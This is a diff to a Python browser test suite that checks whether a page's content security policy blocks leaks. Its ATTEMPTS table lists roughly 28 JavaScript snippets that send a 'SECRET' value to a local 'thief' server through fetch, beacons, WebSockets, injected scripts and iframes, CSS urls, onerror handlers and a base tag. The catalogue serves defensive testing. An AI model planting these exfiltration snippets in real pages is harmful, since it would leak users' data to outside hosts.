@@ -20,42 +20,47 @@ KINDS = [
 
 #: What hostile code would try: each sends `SECRET` to the thief. What fails is of no interest, only what arrives.
 ATTEMPTS = {
-    "fetch": "fetch(`${thief}/fetch?SECRET`, { mode: 'no-cors' })",
-    "xhr": "const asked = new XMLHttpRequest(); asked.open('GET', `${thief}/xhr?SECRET`); asked.send()",
-    "beacon": "navigator.sendBeacon(`${thief}/beacon?SECRET`, 'SECRET')",
-    "websocket": "new WebSocket(`${thief.replace('http', 'ws')}/websocket?SECRET`)",
-    "event-source": "new EventSource(`${thief}/event-source?SECRET`)",
-    "image": "new Image().src = `${thief}/image?SECRET`",
+    "fetch": "fetch(at('fetch'), { mode: 'no-cors' })",
+    "xhr": "const asked = new XMLHttpRequest(); asked.open('GET', at('xhr')); asked.send()",
+    "beacon": "navigator.sendBeacon(at('beacon'), 'SECRET')",
+    "websocket": "new WebSocket(at('websocket').replace('http', 'ws'))",
+    "event-source": "new EventSource(at('event-source'))",
+    "image": "new Image().src = at('image')",
     "form": """
-        const form = Object.assign(document.createElement('form'), { action: `${thief}/form`, target: '_blank' });
-        form.innerHTML = '<input name=a value=SECRET>'; document.body.append(form); form.submit()""",
-    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: `${thief}/frame?SECRET` }))",
-    "object": "document.body.append(Object.assign(document.createElement('object'), { data: `${thief}/object?SECRET` }))",
-    "embed": "document.body.append(Object.assign(document.createElement('embed'), { src: `${thief}/embed?SECRET` }))",
-    "video": "document.body.append(Object.assign(document.createElement('video'), { src: `${thief}/video?SECRET`, preload: 'auto' }))",
-    "script": "document.head.append(Object.assign(document.createElement('script'), { src: `${thief}/script?SECRET` }))",
-    "module": "import(`${thief}/module?SECRET`).catch(() => {})",
-    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${thief}/worker?SECRET', { mode: 'no-cors' })`])))",
-    "style": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${thief}/style?SECRET` }))",
+        const form = put('form', { action: at('form'), target: '_blank' });
+        form.innerHTML = '<input name=a value=SECRET>'; form.submit()""",
+    "frame": "put('iframe', { src: at('frame') })",
+    "object": "put('object', { data: at('object') })",
+    "embed": "put('embed', { src: at('embed') })",
+    "video": "put('video', { src: at('video'), preload: 'auto' })",
+    "script": "put('script', { src: at('script') })",
+    "module": "import(at('module')).catch(() => {})",
+    "worker": """
+        new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker')}', { mode: 'no-cors' })`])))""",
+    "style": "put('link', { rel: 'stylesheet', href: at('style') })",
     "style-attribute": """
-        document.body.insertAdjacentHTML('beforeend', `<p style="background:url(${thief}/style-attribute?SECRET)">x</p>`)""",
-    "style-object": "document.body.style.backgroundImage = `url(${thief}/style-object?SECRET)`",
-    "font": "new FontFace('x', `url(${thief}/font?SECRET)`).load().catch(() => {})",
-    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${thief}/prefetch?SECRET` }))",
-    "preload": "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: `${thief}/preload?SECRET` }))",
-    "icon": "document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: `${thief}/icon?SECRET` }))",
-    "ping": """
-        const link = Object.assign(document.createElement('a'), { href: '#', ping: `${thief}/ping?SECRET` });
-        document.body.append(link); link.click()""",
-    "inline-script": """
-        const script = document.createElement('script');
-        script.textContent = `fetch('${thief}/inline-script?SECRET', { mode: 'no-cors' })`; document.body.append(script)""",
+        document.body.insertAdjacentHTML('beforeend', `<p style="background:url(${at('style-attribute')})">x</p>`)""",
+    "style-object": "document.body.style.backgroundImage = `url(${at('style-object')})`",
+    "font": "new FontFace('x', `url(${at('font')})`).load().catch(() => {})",
+    "prefetch": "put('link', { rel: 'prefetch', href: at('prefetch') })",
+    "preload": "put('link', { rel: 'preload', as: 'image', href: at('preload') })",
+    "icon": "put('link', { rel: 'icon', href: at('icon') })",
+    "ping": "put('a', { href: '#', ping: at('ping') }).click()",
+    "inline-script": "put('script', { textContent: `fetch('${at('inline-script')}', { mode: 'no-cors' })` })",
     "handler": """
-        document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="fetch('${thief}/handler?SECRET')">`)""",
-    "base": """
-        document.head.prepend(Object.assign(document.createElement('base'), { href: `${thief}/base/` }));
-        new Image().src = 'image?SECRET'""",
-}  # fmt: skip
+        document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="fetch('${at('handler')}')">`)""",
+    "base": "put('base', { href: `${thief}/base/` }); new Image().src = 'image?SECRET'",
+}
+_TOOLS = """
+    const at = (name) => `${thief}/${name}?SECRET`;
+    const put = (tag, given) => {
+      const node = Object.assign(document.createElement(tag), given);
+      document.body.append(node);
+      return node;
+    };"""
+#: What arrives from a page without a policy; the browser itself withholds the rest.
+OPEN = {"fetch", "xhr", "beacon", "websocket", "event-source", "image", "form", "frame", "script", "module", "worker"}
+OPEN |= {"style", "style-attribute", "style-object", "font", "video", "ping", "inline-script", "base"}
 
 
 @pytest.fixture
@@ -71,7 +76,8 @@ def thief():
             self.send_header("Content-Length", "0")
             self.end_headers()
 
-        do_POST = do_GET
+        def do_POST(self):
+            self.do_GET()
 
         def log_message(self, *arguments):
             pass
@@ -84,7 +90,7 @@ def thief():
 
 def try_everything(page, address):
     for attempt in ATTEMPTS.values():
-        page.evaluate(f"(thief) => {{ try {{ {attempt} }} catch {{ }} }}", address)
+        page.evaluate(f"(thief) => {{ try {{ {_TOOLS} {attempt} }} catch {{ }} }}", address)
     page.wait_for_timeout(700)
 
 
@@ -113,21 +119,7 @@ def test_the_same_code_in_a_page_without_the_policy_gets_out(browser, thief, tmp
     context.close()
     running.shutdown()
     arrived = {path.split("?")[0].split("/")[1] for path in seen}
-    assert arrived >= {
-        "fetch",
-        "xhr",
-        "beacon",
-        "websocket",
-        "image",
-        "form",
-        "frame",
-        "worker",
-        "script",
-        "style",
-        "ping",
-        "base",
-        "inline-script",
-    }
+    assert arrived >= OPEN
 
 
 def test_typed_words_stay_in_the_browser(readers, server):
